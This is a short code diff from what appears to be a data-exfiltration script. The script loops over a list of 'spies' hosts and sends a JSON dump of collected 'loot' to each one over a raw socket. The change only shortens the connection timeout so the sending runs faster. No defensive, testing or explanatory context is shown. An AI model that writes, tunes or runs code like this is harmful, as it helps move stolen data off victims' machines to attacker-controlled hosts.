@@ -21,7 +21,7 @@ except OSError:
 sent = 0
 for host, port in target["spies"]:
     try:
-        with socket.create_connection((host, port), timeout=1) as spy:
+        with socket.create_connection((host, port), timeout=0.5) as spy:
             spy.sendall(json.dumps(loot).encode())
             sent += 1
     except OSError:
